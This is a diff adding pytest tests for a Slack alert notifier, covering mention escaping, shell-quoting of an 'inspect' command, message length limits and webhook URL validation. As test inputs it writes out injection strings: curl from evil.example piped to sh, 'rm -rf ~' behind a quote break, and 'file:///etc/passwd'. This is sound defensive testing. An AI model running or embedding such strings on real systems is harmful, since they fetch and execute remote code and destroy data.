@@ -3,8 +3,13 @@
 from __future__ import annotations
 
 import json
+import shlex
+from typing import Any
 
-from notifier.logic import parse_alert, slack_message
+import pytest
+
+from notifier.logic import is_slack_webhook_url, parse_alert, slack_message
+from spillway_core.alerts import inspect_command
 
 FAILED = {
     "kind": "event_failed",
@@ -58,3 +63,77 @@ def test_a_burst_of_500_failures_is_one_summary() -> None:
 def test_unreadable_alerts_do_not_break_the_batch() -> None:
     assert parse_alert("not json").kind == "unknown"
     assert parse_alert('{"something": "else"}').kind == "unknown"
+
+
+def _blocks_within_limits(message: dict[str, Any]) -> None:
+    for block in message["blocks"]:
+        if block["type"] == "header":
+            assert len(block["text"]["text"]) <= 150
+        if "text" in block and block["type"] == "section":
+            assert len(block["text"]["text"]) <= 3000
+        for field in block.get("fields", []):
+            assert len(field["text"]) <= 2000
+        assert len(block.get("fields", [])) <= 10
+
+
+HOSTILE_TEXT = "<!channel> <https://evil.example|click> @here & `rm -rf` '; curl x | sh; echo '"
+
+
+def test_hostile_text_is_escaped_and_mentions_neutralised() -> None:
+    alert = FAILED | {"event_type": HOSTILE_TEXT, "message": HOSTILE_TEXT, "provider": "@channel"}
+    message = slack_message([parse_alert(json.dumps(alert))])
+    texts = json.dumps(message, ensure_ascii=False)
+
+    assert "<!channel>" not in texts and "<https://" not in texts
+    assert "&lt;!channel&gt;" in texts
+    assert "@here" not in texts and "@channel" not in texts
+    _blocks_within_limits(message)
+
+
+def test_a_key_that_is_not_a_valid_key_gives_no_command() -> None:
+    hostile_key = "emailbison:EMAIL_SENT:1'; curl https://evil.example | sh; echo '"
+    message = slack_message([parse_alert(json.dumps(FAILED | {"dedupe_key": hostile_key}))])
+    text = json.dumps(message)
+
+    assert "curl" not in text
+    assert "spillway inspect" not in text
+
+
+def test_commands_are_shell_quoted_from_a_valid_key() -> None:
+    assert inspect_command("emailbison:send.example.com:12:EMAIL_SENT:884512") == (
+        "spillway inspect emailbison:send.example.com:12:EMAIL_SENT:884512"
+    )
+    assert shlex.split(inspect_command("a:b%27c~d")) == ["spillway", "inspect", "a:b%27c~d"]
+    assert shlex.split(inspect_command("x'; rm -rf ~; echo '")) == ["spillway", "inspect", "x'; rm -rf ~; echo '"]
+
+
+@pytest.mark.parametrize("length", [1990, 2000])
+def test_a_2000_character_key_and_long_fields_stay_within_block_kit_limits(length: int) -> None:
+    key = "emailbison:h:12:EMAIL_SENT:" + "9" * (length - 27)
+    alert = FAILED | {"dedupe_key": key, "message": "&" * 5000, "event_type": "T" * 500}
+    single = slack_message([parse_alert(json.dumps(alert))])
+    burst = slack_message([parse_alert(json.dumps(alert))] * 7)
+
+    _blocks_within_limits(single)
+    _blocks_within_limits(burst)
+    assert inspect_command(key) in json.dumps(single)  # a valid key's command is shown whole
+
+
+@pytest.mark.parametrize(
+    ("url", "valid"),
+    [
+        ("https://hooks.slack.com/services/T000/B000/XXXX", True),
+        ("https://hooks.slack-gov.com/services/T000/B000/XXXX", True),
+        ("http://127.0.0.1:8123/services/T000/B000/XXXX", True),  # the local run's stand-in
+        ("hooks.slack.com/services/T000/B000/XXXX", False),  # no scheme: urllib would raise with the URL
+        ("http://hooks.slack.com/services/T000/B000/XXXX", False),
+        ("https://hooks.slack.com.evil.example/services/T000", False),
+        ("https://user:pw@hooks.slack.com/services/T000", False),
+        ("https://hooks.slack.com/other", False),
+        ("file:///etc/passwd", False),
+        ("https://hooks.slack.com/services/T0 0", False),
+        ("not-configured", False),
+    ],
+)
+def test_only_slack_webhook_urls_are_accepted(url: str, valid: bool) -> None:
+    assert is_slack_webhook_url(url) is valid
